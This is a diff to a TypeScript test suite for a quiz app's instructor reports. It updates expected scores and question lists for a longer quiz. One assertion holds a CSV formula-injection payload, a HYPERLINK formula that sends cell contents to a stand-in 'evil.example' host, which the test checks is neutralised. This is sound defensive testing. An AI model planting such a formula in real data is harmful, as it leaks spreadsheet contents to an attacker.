@@ -186,7 +186,7 @@ export function reportsSuite(name: string, start: () => Promise<TestDatabase | {
       expect(checkedScores).toBeGreaterThan(40);
       const hostile = matrix.rows.find((r) => r.userId === learnerId)!;
       expect(hostile.name).toBe(hostileName);
-      expect(hostile.cells["cpu-or-gpu"]!.bestScore).toBeCloseTo((1 + 0 + 0) / 5, 12);
+      expect(hostile.cells["cpu-or-gpu"]!.bestScore).toBeCloseTo((1 + 0 + 0) / 9, 12);
     });
 
     it("computes per-question statistics equal to counting the stored answers directly", async (context) => {
@@ -251,7 +251,7 @@ export function reportsSuite(name: string, start: () => Promise<TestDatabase | {
       const hostileRow = grades.records.find((r) => r.email === `hostile-${name}@example.com`)!;
       // The formula is neutralised with a leading quote, and the comma, quotes and line break survive quoting.
       expect(hostileRow.name).toBe(`'${hostileName}`);
-      expect(hostileRow["cpu-or-gpu best %"]).toBe("20");
+      expect(hostileRow["cpu-or-gpu best %"]).toBe("11.1");
       expect(grades.text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1, ""click"")\nsecond line"`);
       const attempts = await db.quizAttempt.findMany({ where: { userId: { in: ids } }, include: { user: true } });
       for (const record of grades.records) {
@@ -265,7 +265,7 @@ export function reportsSuite(name: string, start: () => Promise<TestDatabase | {
       const expectedRows = attempts.reduce((n, a) => n + (JSON.parse(a.results) as unknown[]).length, 0);
       expect(all.records).toHaveLength(expectedRows);
       const hostileAnswers = all.records.filter((r) => r.email === `hostile-${name}@example.com`);
-      expect(hostileAnswers.map((r) => r.question)).toEqual(["memory-bound", "three-numbers", "intensity-batch-64", "weights-mb", "cold-start"]);
+      expect(hostileAnswers.map((r) => r.question)).toEqual(["memory-bound", "three-numbers", "intensity-batch-64", "weights-mb", "own-batch1-bandwidth", "own-batch64-gflops", "read-roofline-point", "read-small-model", "read-not-sequential"]);
       const weights = hostileAnswers.find((r) => r.question === "weights-mb")!;
       // A numeric answer stays a number (so a sheet can sum it); the described answer is text and gets the quote.
       expect(weights["answer ids"]).toBe("-67.1");
@@ -287,7 +287,7 @@ export function reportsSuite(name: string, start: () => Promise<TestDatabase | {
       const detail = (await (await get(routes.learner.GET, "/", { classId, userId: learnerId }, ownerCookie)).json()) as import("@/lib/instructor/reports.server").LearnerDetail;
       expect(detail.attempts).toHaveLength(1);
       expect(detail.attempts[0]!.questions.find((q) => q.questionId === "memory-bound")).toMatchObject({ answer: "Reading the 67 MB of weights from memory", correct: true, score: 1 });
-      expect(detail.attempts[0]!.questions.find((q) => q.questionId === "cold-start")).toMatchObject({ answer: "no answer", correct: false });
+      expect(detail.attempts[0]!.questions.find((q) => q.questionId === "read-not-sequential")).toMatchObject({ answer: "no answer", correct: false });
       const devices = (await (await get(routes.devices.GET, "/", { classId }, ownerCookie)).json()) as import("@/lib/instructor/reports.server").ClassDevices;
       const ids = (await db.classMember.findMany({ where: { classId } })).map((m) => m.userId);
       expect(devices.results).toHaveLength(await db.experimentResult.count({ where: { userId: { in: ids } } }));
